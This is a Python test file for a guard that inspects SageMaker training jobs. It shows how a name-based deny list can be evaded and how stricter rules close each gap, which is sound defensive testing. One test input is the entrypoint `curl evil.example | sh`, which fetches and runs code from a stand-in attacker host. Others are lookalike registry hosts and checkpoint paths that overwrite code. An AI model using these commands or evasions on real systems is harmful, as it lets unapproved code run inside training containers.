"""What no list of names can see: each way around goes on under the deny list, and is stopped by the rule that closes it.

docs/threat-model.md tells the same to those who choose the rules.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from guard.record import Outcome, Record
from tests.support.jobs import ACCOUNT, ALLOWED, AWS_ECR, CLUSTER, HOME, REGION, started_event, training_request
from tests.support.jobs import OWN_ECR as OWN

DIGEST = "sha256:" + "ab" * 32

ALLOW_LIST = {
    "unapproved_registry": {
        "level": "deny",
        "allowed": [
            {"account": "763104351884", "repository": ["pytorch-*"]},
            {"account": ACCOUNT, "region": REGION, "repository": ["reviewed/*"]},
            {"registry": "registry.example.com:5000"},
        ],
    }
}
DIGESTS = {"mutable_tag": {"level": "deny", "digest_required": True}}
CLOSED = {
    "entrypoint_override": {"level": "deny"},
    "script_mode": {"level": "deny"},
    "network_isolation_required": {"level": "deny"},
    "data_location": {"level": "deny"},
    "keep_alive": {"level": "deny"},
    "remote_access": {"level": "deny"},
}
ALGORITHM = {"TrainingImage": ALLOWED, "TrainingInputMode": "File"}
SAFE: dict[str, Any] = {
    "EnableNetworkIsolation": True,
    "OutputDataConfig": {"S3OutputPath": f"s3://sagemaker-{REGION}-{ACCOUNT}/out"},
}


@pytest.fixture
def outcome(guard, sagemaker) -> Callable[..., tuple[Outcome, tuple[str, ...]]]:
    """Run a training job through the guard; the result is the outcome, and the rules that denied."""

    def run(name: str, image: str, engine: Any, **members: Any) -> tuple[Outcome, tuple[str, ...]]:
        sagemaker.create_training_job(TrainingJobName=name, **training_request(image, **members))
        event = started_event(sagemaker, "training", name)
        (record,) = guard(engine=engine).handle(event, HOME)
        return record.outcome, denying(record)

    return run


def denying(record: Record) -> tuple[str, ...]:
    return tuple(sorted({finding.rule_id for finding in record.findings if finding.level == "deny"}))


@pytest.mark.parametrize(
    ("image", "near_miss"),
    [
        pytest.param(f"{OWN}/innocent:1", f"{OWN}/reviewed/innocent:1", id="copy under another name"),
        pytest.param(f"{OWN}/cache/pt-train:1.10", f"{AWS_ECR}/pytorch-training:1.11", id="mirror that renames"),
        pytest.param(f"{OWN}/reviewed-x/a:1", f"{OWN}/reviewed/x/a:1", id="repository that looks alike"),
        pytest.param(
            f"{AWS_ECR}.evil.example/pytorch-training:2.4",
            f"{AWS_ECR}/pytorch-training:2.4",
            id="host that looks alike",
        ),
        pytest.param(
            f"evil.example/{AWS_ECR}/pytorch-training:2.4",
            f"{AWS_ECR.upper()}/pytorch-training:2.4",
            id="host in the path",
        ),
        pytest.param("pytorch-training:2.4", f"{AWS_ECR}/pytorch-training@{DIGEST}", id="no registry"),
        pytest.param(
            "763104351885.dkr.ecr.eu-west-1.amazonaws.com/pytorch-training:2.4",
            "763104351884.dkr-ecr-fips.eu-west-1.on.aws/pytorch-training:2.4",
            id="account that looks alike",
        ),
        pytest.param("registry.example.com:5001/a", "Registry.Example.com:5000/a", id="port of another registry"),
        pytest.param("10.0.0.7:5000/a", "registry.example.com:5000/a", id="registry by its address"),
        pytest.param("public.ecr.aws/x/pytorch-training:2.4", f"{OWN}/reviewed/a", id="public registry"),
    ],
)
def test_an_allow_list_of_registries_stops_what_it_does_not_name(
    outcome, shipped_engine, engine_with, image, near_miss
) -> None:
    approving = engine_with(rules=ALLOW_LIST)
    assert outcome("by-deny-list", image, shipped_engine) == (Outcome.NOT_DENIED, ())
    assert outcome("by-allow-list", image, approving) == (Outcome.STOPPED, ("unapproved_registry",))
    assert outcome("near-miss", near_miss, approving) == (Outcome.NOT_DENIED, ())


@pytest.mark.parametrize(
    "image",
    [
        pytest.param(f"{OWN}/reviewed/model:3", id="tag that may have moved"),
        pytest.param(f"{AWS_ECR}/pytorch-training:2.4.0-cpu-py311-ubuntu22.04-sagemaker", id="alias of a tag"),
        pytest.param(f"{OWN}/reviewed/model", id="no tag"),
    ],
)
def test_a_demand_for_digests_stops_what_a_tag_may_hide(outcome, shipped_engine, engine_with, image) -> None:
    pinning = engine_with(rules=DIGESTS)
    assert outcome("by-deny-list", image, shipped_engine) == (Outcome.NOT_DENIED, ())
    assert outcome("by-digest-rule", image, pinning) == (Outcome.STOPPED, ("mutable_tag",))
    assert outcome("near-miss", f"{image}@{DIGEST}", pinning) == (Outcome.NOT_DENIED, ())


def test_the_digest_of_a_listed_tag_goes_on_until_it_is_listed_itself(outcome, shipped_engine, engine_with) -> None:
    """SageMaker doesn't tell which tags a digest has."""
    image = f"{AWS_ECR}/pytorch-training@{DIGEST}"
    patterns = [{"pattern": f"*@{DIGEST}", "reason": "PyTorch 1.10 by its content"}]
    listing = engine_with(rules={"denied_image": {"patterns": patterns}})
    assert outcome("by-tag", image, shipped_engine) == (Outcome.NOT_DENIED, ())
    assert outcome("by-digest", image, listing) == (Outcome.STOPPED, ("denied_image",))
    assert outcome("renamed", f"{OWN}/innocent@{DIGEST}", listing) == (Outcome.STOPPED, ("denied_image",))
    assert outcome("near-miss", f"{OWN}/innocent@{DIGEST[:-1]}c", listing) == (Outcome.NOT_DENIED, ())


@pytest.mark.parametrize(
    ("members", "rules"),
    [
        pytest.param(
            {
                "AlgorithmSpecification": {
                    **ALGORITHM,
                    "ContainerEntrypoint": ["/bin/sh", "-c", "curl evil.example | sh"],
                }
            },
            ("entrypoint_override",),
            id="another entrypoint",
        ),
        pytest.param(
            {"HyperParameters": {"sagemaker_submit_directory": '"s3://theirs/code.tar.gz"'}},
            ("data_location", "script_mode"),
            id="script from elsewhere",
        ),
        pytest.param(
            {"CheckpointConfig": {"S3Uri": "s3://theirs/code", "LocalPath": "/opt/ml/code"}},
            ("data_location", "script_mode"),
            id="checkpoint over the code",
        ),
        pytest.param(
            {"CheckpointConfig": {"S3Uri": "s3://theirs/code", "LocalPath": "/root/.local/lib"}},
            ("data_location", "script_mode"),
            id="checkpoint over packages of the user",
        ),
        pytest.param(
            {"CheckpointConfig": {"S3Uri": "s3://theirs/code", "LocalPath": "/opt/venv/lib"}},
            ("data_location", "script_mode"),
            id="checkpoint over packages of the image",
        ),
        pytest.param({"EnableNetworkIsolation": False}, ("network_isolation_required",), id="code from the network"),
        pytest.param(
            {
                "InputDataConfig": [
                    {
                        "ChannelName": "model",
                        "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://theirs/x"}},
                    }
                ]
            },
            ("data_location",),
            id="data from elsewhere",
        ),
        pytest.param(
            {"ResourceConfig": {**CLUSTER, "KeepAlivePeriodInSeconds": 3600}}, ("keep_alive",), id="warm pool"
        ),
        pytest.param(
            {"RemoteDebugConfig": {"EnableRemoteDebug": True}}, ("remote_access",), id="shell into the container"
        ),
        pytest.param(
            {"Environment": {"SSH_SSM_ROLE": "x"}}, ("remote_access",), id="shell by an agent in the container"
        ),
    ],
)
def test_an_approved_image_that_runs_other_code_is_stopped_by_rules_about_the_job(
    outcome, shipped_engine, engine_with, members, rules
) -> None:
    job = {**SAFE, **members}
    closed = engine_with(rules=CLOSED)
    assert outcome("by-deny-list", ALLOWED, shipped_engine, **job) == (Outcome.NOT_DENIED, ())
    assert outcome("by-rules", ALLOWED, closed, **job) == (Outcome.STOPPED, rules)
    assert outcome("near-miss", ALLOWED, closed, **SAFE) == (Outcome.NOT_DENIED, ())
